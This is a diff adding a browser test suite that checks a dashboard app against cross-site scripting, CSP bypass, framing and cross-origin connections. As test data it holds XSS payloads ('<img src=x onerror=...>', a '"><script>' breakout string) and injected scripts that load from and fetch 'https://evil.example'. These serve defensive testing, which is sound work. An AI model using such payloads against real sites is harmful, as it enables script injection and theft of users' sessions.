@@ -1,0 +1,188 @@
+"""What somebody brings in a file or puts into an address is never run by a browser."""
+
+from http.server import BaseHTTPRequestHandler, HTTPServer
+from threading import Thread
+from urllib.parse import quote
+
+import pytest
+from playwright.sync_api import expect
+
+from kp_data.exports.html import write_html
+from kp_data.packs import look_into, open_pack
+from kp_data.recheck.manifest import manifest_of
+from tests.browser.conftest import serve, settle
+from tests.browser.hostile import MEETINGS, bad, hostile_store, table
+
+pytestmark = pytest.mark.browser
+
+# What a text of the data would be in a page, had it been taken for more than text.
+TAKEN_FOR_MORE = """() => [
+  ...document.querySelectorAll('img[src=x], [onerror], a[href^="javascript:" i], iframe, object'),
+  ...[...document.scripts].filter(s => !s.type.includes('json') && s.text.includes('window.hit=')),
+].map(one => one.outerHTML.slice(0, 200))"""
+# A page of the dashboard, and attacks that must be read on it, or it proves nothing.
+SHOWN = {
+    "": ("title", "training"),
+    "meetings": ("title", "city"),
+    "trainings": ("training", "city"),
+    "returns?measure=kp_returns": ("publisher", "release"),
+    "countries?country=KEN": ("title", "city"),
+    "sources": ("publisher", "person"),
+    "history": ("person", "reason to undo"),
+    "quality": ("person",),
+    "packs?pack={pack}": ("person", "slide", "spoken"),
+}
+
+
+@pytest.fixture(scope="module")
+def attacked(tmp_path_factory):
+    """A server on a store of attacks, and the pack in it."""
+    folder = tmp_path_factory.mktemp("attacked")
+    store, pack = hostile_store(folder / "store")
+    with serve(folder / "store", folder / "log.txt", KP_SEED="no") as running:
+        yield running, store, pack
+
+
+@pytest.fixture
+def unprotected(browser, attacked):
+    """A page of the Secretariat in a browser that holds no policy: what gets in would run."""
+    server, *_ = attacked
+    context = browser.new_context(bypass_csp=True)
+    page = context.new_page()
+    page.goto(f"{server.address}/?key={server.key}")
+    settle(page)
+    yield page
+    context.close()
+
+
+def nothing_ran(page):
+    assert page.evaluate("window.hit") is None
+    assert page.evaluate(TAKEN_FOR_MORE) == []
+
+
+def test_no_text_of_a_file_is_more_than_text_on_any_page(unprotected, attacked):
+    server, _, pack = attacked
+    for address, shown in SHOWN.items():
+        unprotected.goto(f"{server.address}/{address.format(pack=pack.id)}")
+        settle(unprotected)
+        for field in shown:
+            told = unprotected.get_by_text(f"<img src=x onerror=window.hit='{field}'>").first
+            expect(told, f"{field} on /{address}").to_be_attached()
+        nothing_ran(unprotected)
+
+
+def test_no_text_of_a_file_is_more_than_text_while_it_is_uploaded(unprotected, attacked):
+    server, *_ = attacked
+    unprotected.goto(f"{server.address}/upload")
+    settle(unprotected)
+    name = bad("file").replace("/", "-") + ".csv"
+    file = {"name": name, "mimeType": "text/csv", "buffer": table(MEETINGS)}
+    unprotected.set_input_files("input[type=file]", file)
+    expect(unprotected.get_by_text("What keeps rows out")).to_be_visible()
+    expect(unprotected.get_by_text("window.hit='file'").first).to_be_visible()
+    nothing_ran(unprotected)
+
+
+def test_no_text_of_a_pack_is_more_than_text_on_a_screen(browser, attacked, tmp_path):
+    server, store, pack = attacked
+    deck = open_pack(pack, look_into(store))
+    file = tmp_path / "deck.html"
+    file.write_bytes(write_html(deck, manifest_of(deck)))
+    context = browser.new_context(bypass_csp=True)
+    page = context.new_page()
+    for address in (f"{server.address}/present?pack={pack.id}", file.as_uri()):
+        page.goto(address)
+        expect(page.get_by_text("window.hit='slide'").first).to_be_attached()
+        page.keyboard.press("s")
+        nothing_ran(page)
+    context.close()
+
+
+def test_a_script_that_got_in_all_the_same_would_not_run(browser, attacked):
+    server, *_ = attacked
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(f"{server.address}/mistakes")
+    settle(page)
+    page.evaluate(
+        """() => {
+          window.refused = [];
+          addEventListener('securitypolicyviolation', e => refused.push(e.effectiveDirective));
+          document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.hit=1">');
+          const inline = document.createElement('script');
+          inline.text = 'window.hit = 2';
+          document.body.append(inline);
+          const elsewhere = document.createElement('script');
+          elsewhere.src = 'https://evil.example/hit.js';
+          document.body.append(elsewhere);
+          fetch('https://evil.example/').catch(() => {});
+          setTimeout(() => eval('window.hit = 3'));
+          document.body.insertAdjacentHTML('beforeend', '<base href="https://evil.example/">');
+        }"""
+    )
+    page.wait_for_function("() => refused.length >= 6")
+    refused = set(page.evaluate("refused"))
+    assert refused == {
+        "script-src-attr",
+        "script-src-elem",
+        "connect-src",
+        "script-src",
+        "base-uri",
+    }
+    assert page.evaluate("window.hit") is None
+    context.close()
+
+
+def test_no_address_brings_a_script_in(unprotected, attacked):
+    server, *_ = attacked
+    attack = quote('"><img src=x onerror=hit=1><script>hit=1</script>', safe="")
+    for address in ("?key=", "meetings?years=", "present?pack=", "nothing/"):
+        unprotected.goto(f"{server.address}/{address}{attack}")
+        expect(unprotected.locator("h1").first).to_be_attached()
+        nothing_ran(unprotected)
+
+
+@pytest.fixture
+def elsewhere():
+    """A site of somebody else, on this machine since browsers guard the way from farther ones."""
+    with HTTPServer(("127.0.0.1", 0), Echo) as site:
+        going = Thread(target=site.serve_forever)
+        going.start()
+        yield f"http://127.0.0.1:{site.server_port}"
+        site.shutdown()
+        going.join()
+
+
+class Echo(BaseHTTPRequestHandler):
+    """Shows the address that stands behind its own in a frame."""
+
+    def do_GET(self):
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.end_headers()
+        self.wfile.write(f"<iframe src='{self.path.partition('?')[2]}'></iframe>".encode())
+
+    def log_message(self, *_):
+        pass
+
+
+def test_another_site_can_neither_frame_a_page_nor_open_a_connection(browser, attacked, elsewhere):
+    server, *_ = attacked
+    context = browser.new_context()
+    page = context.new_page()
+    with page.expect_console_message(lambda one: "frame-ancestors 'self'" in one.text):
+        page.goto(f"{elsewhere}/?{server.address}/mistakes")
+    socket = f"{server.address.replace('http', 'ws')}/_stcore/stream"
+    tried = page.evaluate(
+        """async ([socket, data]) => [
+          await new Promise(tell => {
+            const one = new WebSocket(socket);
+            one.onopen = () => tell('open');
+            one.onerror = () => tell('refused');
+          }),
+          await fetch(data).then(() => 'read', () => 'refused'),
+        ]""",
+        [socket, f"{server.address}/api/v1/meetings.json"],
+    )
+    assert tried == ["refused", "refused"]
+    context.close()
